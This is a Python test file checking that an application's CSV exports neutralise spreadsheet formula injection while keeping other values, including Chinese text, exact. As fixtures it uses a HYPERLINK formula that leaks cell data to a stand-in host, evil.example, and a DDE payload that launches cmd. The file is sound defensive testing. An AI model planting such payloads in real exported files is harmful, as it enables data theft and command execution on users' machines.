"""CSV exports neutralise text a spreadsheet would run as a formula (OWASP
"CSV injection"), and keep every other value exact: on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io

import pytest

from api.export import _cell
from tests.api.client import Api
from tests.world import World

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")'


@pytest.fixture
def api(client, world: World) -> Api:  # noqa: ANN001
    return Api(client, world)


def _rows(response) -> list[dict[str, str]]:  # noqa: ANN001
    assert response.status_code == 200, response.text
    assert response.content.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_a_formula_in_a_title_is_exported_as_text(api: Api) -> None:
    formula = api.register(title=HYPERLINK, description="+cmd|' /C calc'!A0")["id"]
    plain = api.register(title="2号楼电梯停运，老人无法下楼")["id"]
    after = api.log_position()

    rows = {r["id"]: r for r in _rows(api.get("staff", "/needs", format="csv", after=after))}
    assert rows[formula]["title"] == "'" + HYPERLINK
    # Everything else as it was: Chinese text, ids, numbers, dates.
    assert rows[plain]["title"] == "2号楼电梯停运，老人无法下楼"
    assert rows[plain]["version"] == "1" and rows[plain]["redo_count"] == "0"
    assert rows[plain]["reported_at"][:1].isdigit()
    assert rows[plain]["status_zh"] and not rows[plain]["status_zh"].startswith("'")
    as_json = api.get("staff", f"/needs/{formula}").json()
    assert as_json["title"] == HYPERLINK  # the JSON is never changed

    # The case's trail, too: a reason that starts with "@" or "-".
    api.ok("staff", f"/needs/{formula}/reject", {"reason": "@SUM(1+1)*cmd"})
    after = api.log_position()
    trail = _rows(api.get("supervisor", f"/needs/{formula}/history", format="csv", after=after))
    reasons = [r["reason"] for r in trail if r["reason"]]
    assert reasons == ["'@SUM(1+1)*cmd"]
    for row in trail:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_the_console_export_is_neutralised_too(client, world: World) -> None:  # noqa: ANN001
    from tests.api.test_console_pages import browser

    api = Api(client, world)
    need = api.register(title="-1+1 楼道灯")["id"]
    after = api.log_position()
    assert world.services.updater.wait_for(after, 10)
    rows = _rows(browser(client.app, world, "staff").get("/console/needs.csv"))
    [row] = [r for r in rows if r["id"] == need]
    assert row["title"] == "'-1+1 楼道灯"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-", "'-"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("电梯=坏了", "电梯=坏了"),  # only the first character matters
        (" =1", " =1"),
        ("", ""),
        ("'=1", "'=1"),
        (-3, -3),  # numbers the exporter writes are not text: never changed
        (-0.5, -0.5),
        (0, 0),
        (True, "true"),
        (None, ""),
        (["=x", "y"], '["=x", "y"]'),
    ],
)
def test_a_cell(value: object, cell: object) -> None:
    assert _cell(value) == cell
